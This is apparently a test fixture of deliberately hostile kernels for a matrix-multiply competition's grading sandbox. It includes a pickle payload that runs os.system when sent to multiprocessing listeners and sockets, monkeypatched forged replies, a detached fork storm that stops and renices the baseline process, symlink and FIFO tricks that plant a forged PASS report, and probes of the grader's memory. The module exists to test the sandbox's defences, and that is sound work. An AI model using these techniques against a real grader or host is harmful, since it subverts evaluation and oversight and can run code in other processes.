"""Known-bad kernels against the sandbox itself (tests/sandbox/test_sandbox.py): reaching the grader's process, forging
the child's replies, escaping the freeze, disturbing the baseline. Competition signature FN(A, B, C, M, N, K); each
writes what it managed to do under $BAD_KERNEL_OUT_DIR, so a test can tell "refused" from "did it unnoticed"."""

import gc
import json
import os
import signal
import socket
import sys
import time

_state = {}


def honest(A, B, C, M, N, K):
    a, b = A[: M * K].view(K, M).t(), B[: K * N].view(N, K).t()
    C[: M * N].view(N, M).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))


def _out(name: str) -> str:
    return os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), name)


def _timed() -> bool:
    """Whether this call is one of a timed batch (the child's timing loop is on the stack)."""
    f = sys._getframe()
    while f is not None:
        if f.f_code.co_name == "time_calls":
            return True
        f = f.f_back
    return False


class _Payload:
    """Unpickling this runs os.system in whoever unpickles it (the marker file says whether it ran)."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _listeners() -> list[str]:
    """Paths of the listening Unix sockets of multiprocessing (``pymp-*`` directories), from /proc/net/unix."""
    out = []
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and "pymp-" in fields[7]:
                out.append(fields[7])
    except OSError:
        pass
    return out


def connects_to_owner(A, B, C, M, N, K):
    """Does no work at all (every output stays NaN) and tries to run code in the grader instead: with the
    multiprocessing authkey its process holds, it connects to every multiprocessing listener on the machine (the
    grader's resource sharer, which unpickles what an authenticated client sends) and sends a pickle that runs a
    command. Writes $BAD_KERNEL_OUT_DIR/tried (how many listeners it reached) and, if the command ran, ``pwned``."""
    from multiprocessing import current_process
    from multiprocessing.connection import Client

    reached = 0
    for address in _listeners():
        try:
            with Client(address, authkey=bytes(current_process().authkey)) as conn:
                conn.send(_Payload(_out("pwned")))
                reached += 1
        except Exception:
            pass
    with open(_out("tried"), "w") as f:
        f.write(str(reached))


def forges_replies(A, B, C, M, N, K):
    """Computes honestly, and rewrites its process's replies to the grader: every field named in $BAD_REPLY (a
    JSON object) that a reply holds gets that value instead ("error" is added to every reply)."""
    honest(A, B, C, M, N, K)
    if _state.get("forging"):
        return
    _state["forging"] = True
    forged = json.loads(os.environ.get("BAD_REPLY", "{}"))
    for name in ("gemmlab.sandbox.serve", "gemmlab.sandbox.box"):  # the child's reply function, new and old home
        mod = sys.modules.get(name)
        real = getattr(mod, "_reply", None)
        if real is None:
            continue

        def lie(conn, reply, real=real):
            reply = dict(reply)
            reply.update({k: v for k, v in forged.items() if k in reply or k == "error"})
            return real(conn, reply)
        mod._reply = lie


_SESSION = os.getsid(0)  # the candidate's own sandbox (its helpers may leave it by setsid)


def _parent(pid: int) -> int | None:
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def _baseline_threads() -> list[int]:
    """Threads of the other sandbox's server (the baseline's): the child of a keeper outside the candidate's
    session, started by the same grader (never a keeper of another grader running at the same time)."""
    me, keepers = _SESSION, set()
    grader = _parent(os.getppid())
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            if (b"sandbox/keeper.py" in open(f"/proc/{d}/cmdline", "rb").read() and os.getsid(int(d)) != me
                    and _parent(int(d)) == grader):
                keepers.add(int(d))
        except OSError:
            pass
    tids = []
    for d in os.listdir("/proc"):
        try:
            if d.isdigit() and int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1]) in keepers:
                tids += [int(t) for t in os.listdir(f"/proc/{d}/task")]
        except (OSError, ValueError, IndexError):
            pass
    return tids


def renices_baseline(A, B, C, M, N, K):
    """Computes honestly; in its timed calls, sets every thread of the baseline's server to SCHED_IDLE and nice 19
    (so the baseline runs only when nothing else wants the CPU). Counts what it changed in ``reniced``."""
    honest(A, B, C, M, N, K)
    if not _timed():
        return
    done = 0
    for t in _baseline_threads():
        try:
            os.sched_setscheduler(t, os.SCHED_IDLE, os.sched_param(0))
            os.setpriority(os.PRIO_PROCESS, t, 19)
            done += 1
        except OSError:
            pass
    with open(_out("reniced"), "a") as f:
        f.write(f"{done}\n")


def _ran_ns(tid: int) -> int:
    try:
        return int(open(f"/proc/{tid}/schedstat").read().split()[0])
    except (OSError, ValueError):
        return -1


def _storm() -> None:
    """Forks and exits every millisecond, forever; each generation writes the heartbeat file (its count) and, when
    it sees the baseline's server using CPU (running its batch), stops it for 20 ms and logs that in ``stops``."""
    beat, last = 0, {}
    while True:
        if os.fork():
            os._exit(0)  # the parent dies; the child (a new pid, an orphan) carries on
        beat += 1
        with open(_out("heartbeat"), "w") as f:
            f.write(str(beat))
        for t in _baseline_threads()[:1]:
            ran = _ran_ns(t)
            if last.get(t, ran) < ran:
                os.kill(t, signal.SIGSTOP)
                time.sleep(0.02)
                os.kill(t, signal.SIGCONT)
                with open(_out("stops"), "a") as f:
                    f.write(f"{t}\n")
                ran = _ran_ns(t)
            last[t] = ran
        time.sleep(0.001)


def fork_storm(A, B, C, M, N, K):
    """Computes honestly; at its first timed call, leaves a helper in a new session that forks and exits every
    millisecond (each SIGSTOP sent to a pid read from /proc arrives after that pid has forked its successor) and
    stops the baseline whenever it catches it running."""
    honest(A, B, C, M, N, K)
    if _state.get("storm") or not (_timed() or os.environ.get("BAD_STORM_NOW")):
        return
    _state["storm"] = True
    if os.fork() == 0:
        os.setsid()
        try:
            _storm()
        finally:
            os._exit(0)


def sends_pickle_frame(A, B, C, M, N, K):
    """Computes honestly, then writes a framed pickle (the length header, then the pickle) on every socket of its
    process, the grader's channel included: a grader that loaded it would run the command."""
    import pickle

    honest(A, B, C, M, N, K)
    data = pickle.dumps(_Payload(_out("pwned")))
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            try:
                obj.sendall(len(data).to_bytes(4, "little") + data)
            except OSError:
                pass


def _grader_pid() -> int:
    keeper = os.getppid()
    return int(open(f"/proc/{keeper}/stat").read().rsplit(")", 1)[1].split()[1])


def sabotages_report(A, B, C, M, N, K):
    """Wrong (all zeros), and prepares $BAD_REPORT_DIR, where the grader will write its report, as $BAD_REPORT_MODE
    says: ``fifo``: FIFOs at the temporary names the grader once used (.report.json.<grader pid>.tmp, ...), and a
    forged PASS report.json; ``tmp-symlink``: symlinks to $BAD_VICTIM at those names; ``symlink``: report.json a
    symlink to $BAD_VICTIM; ``fifo-report``: report.json a FIFO."""
    C.zero_()
    if _state.get("sabotaged"):
        return
    _state["sabotaged"] = True
    d, mode, victim = os.environ["BAD_REPORT_DIR"], os.environ["BAD_REPORT_MODE"], os.environ.get("BAD_VICTIM", "")
    os.makedirs(d, exist_ok=True)
    pid = _grader_pid()
    temps = [os.path.join(d, f".report.{ext}.{pid}.tmp") for ext in ("json", "md", "csv")]
    report = os.path.join(d, "report.json")
    if mode == "fifo":
        for t in temps:
            os.mkfifo(t)
        with open(report, "w") as f:
            f.write('{"verdict": "PASS", "forged": true}')
    elif mode == "tmp-symlink":
        for t in temps:
            os.symlink(victim, t)
    elif mode == "symlink":
        os.symlink(victim, report)
    elif mode == "fifo-report":
        os.mkfifo(report)


def reaches_outside(A, B, C, M, N, K):
    """Computes honestly, and probes what it can reach outside its sandbox: signal 0 to the grader and to the
    baseline's server (what any kill would need), and opening the grader's memory (/proc/PID/mem). Writes
    ``reach.json``: {"grader_signal": ok?, "baseline_signal": ok?, "grader_mem": ok?}."""
    honest(A, B, C, M, N, K)
    if _state.get("probed") or not _timed():
        return
    _state["probed"] = True
    found = {}

    def probe(name, fn):
        try:
            fn()
            found[name] = True
        except OSError as e:
            found[name] = f"{type(e).__name__}: {e.strerror}"
    grader = _grader_pid()
    probe("grader_signal", lambda: os.kill(grader, 0))
    baseline = _baseline_threads()
    probe("baseline_signal", lambda: os.kill(baseline[0], 0)) if baseline else found.update(baseline_signal="none")
    probe("grader_mem", lambda: open(f"/proc/{grader}/mem", "rb").close())
    with open(_out("reach.json"), "w") as f:
        json.dump(found, f)
